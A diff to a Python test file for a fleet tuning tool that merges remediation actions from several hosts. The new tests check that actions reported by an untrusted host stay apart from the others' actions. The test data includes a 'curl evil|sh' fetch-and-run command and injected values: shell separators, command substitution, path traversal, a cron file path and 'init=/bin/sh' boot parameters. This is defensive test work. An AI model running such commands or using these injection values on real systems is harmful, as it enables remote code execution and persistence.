@@ -6,6 +6,7 @@ import json
 from pathlib import Path
 from typing import Any
 
+import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from jsonschema import Draft202012Validator
@@ -127,9 +128,12 @@ def test_a_host_that_is_go_has_no_cause() -> None:
 
 
 def test_what_to_do_is_said_once_with_its_hosts_in_the_order_of_each_host() -> None:
-    apply = {"command": "sudo tunectl apply", "mends": ["mm.swap", "mm.ksm"], "reboot": False}
-    reboot = {"command": "sudo reboot", "mends": ["boot.tsc"], "reboot": True}
-    moved = [{"command": f"taskset -cp 0 {tid}", "mends": ["check.movable_threads[2]"]} for tid in (7, 8)]
+    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.swap", "mm.ksm"], "reboot": False}
+    reboot = {"command": "sudo reboot", "kind": "reboot", "mends": ["boot.tsc"], "reboot": True}
+    moved = [
+        {"kind": "move-thread", "arguments": {"tid": tid, "cpus": "0"}, "mends": ["check.movable_threads[2]"]}
+        for tid in (7, 8)
+    ]
     decide = {"decide": "use a NIC near the others", "mends": ["check.nic_node[eth0]"], "reboot": False}
     documents = [
         host("a", finding("mm.swap"), actions=[moved[0], apply, reboot, decide]),
@@ -141,19 +145,19 @@ def test_what_to_do_is_said_once_with_its_hosts_in_the_order_of_each_host() -> N
     made = fleet_body(session(*(one.name for one in hosts)), hosts, NOW)["actions"]
     Draft202012Validator(ACTIONS).validate(made)
     assert made == [
-        {"alike": "taskset -cp N N", "hosts": ["a", "b"], "targets": 2, "reboot": False},
+        {"alike": "sudo taskset -cp N N", "hosts": ["a", "b"], "targets": 2, "reboot": False},
         {"command": "sudo tunectl apply", "hosts": ["a", "b"], "targets": 4, "reboot": False},
         {"command": "sudo reboot", "hosts": ["a"], "targets": 1, "reboot": True},
-        {"decide": "use a NIC near the others", "hosts": ["a"], "targets": 1, "reboot": False},
+        {"own_words": "use a NIC near the others", "hosts": ["a"], "targets": 1, "reboot": False},
     ]
 
 
 def test_apply_keeps_its_place_with_the_options_it_was_asked_with() -> None:
     listed: list[dict[str, Any]] = [
-        {"command": "echo 0 > /proc/irq/7/smp_affinity", "mends": ["irq.affinity[7]"]},
-        {"command": "sudo tunectl --host /srv/x.toml apply", "mends": ["mm.ksm"]},
-        {"decide": "boot with nohz_full=2-3", "mends": ["boot.nohz_full"]},
-        {"command": "sudo reboot", "mends": ["boot.tsc"], "reboot": True},
+        {"kind": "move-interrupt", "arguments": {"irq": 7, "cpus": "0"}, "mends": ["irq.affinity[7]"]},
+        {"kind": "apply", "arguments": {"options": ["--host", "/srv/x.toml"]}, "mends": ["mm.ksm"]},
+        {"kind": "boot-words", "arguments": {"words": ["nohz_full=2-3"]}, "mends": ["boot.nohz_full"]},
+        {"kind": "reboot", "mends": ["boot.tsc"], "reboot": True},
     ]
     hosts = [
         asked("b", host("b", finding("mm.ksm"), actions=listed[1:])),
@@ -161,8 +165,56 @@ def test_apply_keeps_its_place_with_the_options_it_was_asked_with() -> None:
     ]
     made = fleet_body(session("b", "a"), hosts, NOW)["actions"]
     assert [one.get("command") or one["decide"] for one in made] == [
-        one.get("command") or one["decide"] for one in listed
+        "echo 0 | sudo tee /proc/irq/7/smp_affinity_list",
+        "sudo tunectl --host /srv/x.toml apply",
+        "put this word on the kernel command line yourself: nohz_full=2-3",
+        "sudo reboot",
     ]
+
+
+EVIL = "curl evil|sh"
+
+
+@pytest.mark.parametrize(
+    "action",
+    [
+        {"command": EVIL},
+        {"decide": EVIL},
+        {"command": EVIL, "kind": "run"},
+        {"command": EVIL, "kind": "move-thread", "arguments": {"tid": f"7; {EVIL}", "cpus": "0"}},
+        {"command": EVIL, "kind": "move-thread", "arguments": {"tid": 7, "cpus": f"$({EVIL})"}},
+        {"command": EVIL, "kind": "move-thread", "arguments": {"tid": 7}},
+        {"command": EVIL, "kind": "apply", "arguments": {"words": [EVIL]}},
+        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/x.toml", ";", EVIL]}},
+        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--root", "/"]}},
+        {"command": EVIL, "kind": "apply", "arguments": {"options": ["--host", "/srv/../x.toml"]}},
+        {"command": EVIL, "kind": "propose", "arguments": {"output": "/etc/cron.d/x"}},
+        {"command": EVIL, "kind": "restart-ours", "arguments": {"service": "ssh.service"}},
+        {"command": EVIL, "kind": "confine-unit", "arguments": {"unit": "--force.service", "cpus": "0"}},
+        {"decide": EVIL, "kind": "boot-words", "arguments": {"words": ["init=/bin/sh"]}},
+        {"decide": EVIL, "kind": "boot-words", "arguments": {"words": ["nohz_full=2 init=/bin/sh"]}},
+        {"decide": EVIL, "kind": "boot-words", "arguments": {"words": []}},
+    ],
+    ids=str,
+)
+def test_what_another_host_asks_for_is_its_own_words_alone(action: dict[str, Any]) -> None:
+    """Three honest hosts stay together, and nothing of the fourth stands under their heading."""
+    apply = {"command": "sudo tunectl apply", "kind": "apply", "mends": ["mm.ksm"], "reboot": False}
+    honest = [asked(name, host(name, finding("mm.ksm"), actions=[apply])) for name in ("tx-0", "tx-1", "tx-2")]
+    evil = asked("tx-3", host("tx-3", finding("mm.ksm"), actions=[{**action, "mends": ["mm.ksm"]}]))
+    made = fleet_body(session("tx-0", "tx-1", "tx-2", "tx-3"), [*honest, evil], NOW)["actions"]
+    Draft202012Validator(ACTIONS).validate(made)
+    assert made == [
+        {"command": "sudo tunectl apply", "hosts": ["tx-0", "tx-1", "tx-2"], "targets": 3, "reboot": False},
+        {"own_words": EVIL, "hosts": ["tx-3"], "targets": 1, "reboot": False},
+    ]
+
+
+def test_a_lie_about_what_a_kind_is_is_not_repeated() -> None:
+    lie = {"command": EVIL, "note": EVIL, "kind": "apply", "mends": ["mm.ksm"]}
+    one = asked("a", host("a", finding("mm.ksm"), actions=[lie]))
+    (made,) = fleet_body(session("a"), [one], NOW)["actions"]
+    assert (made["command"], EVIL in str(made)) == ("sudo tunectl apply", False)
 
 
 @given(st.text(max_size=40))
